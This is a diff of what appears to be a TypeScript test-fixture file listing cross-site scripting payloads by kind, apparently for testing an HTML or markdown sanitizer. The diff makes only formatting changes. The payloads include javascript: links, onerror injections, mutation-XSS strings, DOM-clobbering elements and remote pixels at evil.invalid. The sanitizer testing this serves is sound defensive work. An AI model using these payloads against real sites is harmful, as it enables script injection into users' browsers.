@@ -103,12 +103,12 @@ export const payloadsByKind: Record<string, readonly string[]> = {
     'x"onclick=alert(1)@evil.invalid',
     '<mailto:x@evil.invalid?subject=%22%3E%3Cscript%3Ealert(1)%3C/script%3E>',
   ],
-  'images': [
+  images: [
     '![x](javascript:alert(1))',
     '![x](x "onerror=alert(1)")',
     '![x](x"onerror="alert\\(1\\))',
     '!["onerror="alert(1)](x)',
-    "![x](x 'x\" onerror=\"alert(1)')",
+    '![x](x \'x" onerror="alert(1)\')',
     '![x](https://evil.invalid/pixel.png)',
     '![x](//evil.invalid/pixel.png)',
     '![x](/\\evil.invalid/pixel.png)',
@@ -137,7 +137,7 @@ export const payloadsByKind: Record<string, readonly string[]> = {
     '<math><a xlink:href="javascript:alert(1)">x</a></math>',
     '<math><maction actiontype="statusline#https://evil.invalid" xlink:href="javascript:alert(1)">x</maction></math>',
   ],
-  'mutation': [
+  mutation: [
     '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
     '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
     '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
@@ -194,7 +194,7 @@ export const payloadsByKind: Record<string, readonly string[]> = {
     '<input type=image src=x onerror=alert(1)>',
     '<keygen autofocus onfocus=alert(1)>',
   ],
-  'clobbering': [
+  clobbering: [
     '<a id="__next_f" name="__next_f">x</a>',
     '<img name="cookie"><img id="getElementById">',
     '<form id=document name=body><input name=attributes></form>',
@@ -257,5 +257,7 @@ export const payloadsByKind: Record<string, readonly string[]> = {
 
 /** Every payload with its kind, each once. */
 export const payloads: readonly { kind: string; text: string }[] = [
-  ...new Map(Object.entries(payloadsByKind).flatMap(([kind, texts]) => texts.map((text) => [text, { kind, text }] as const))).values(),
+  ...new Map(
+    Object.entries(payloadsByKind).flatMap(([kind, texts]) => texts.map((text) => [text, { kind, text }] as const)),
+  ).values(),
 ]
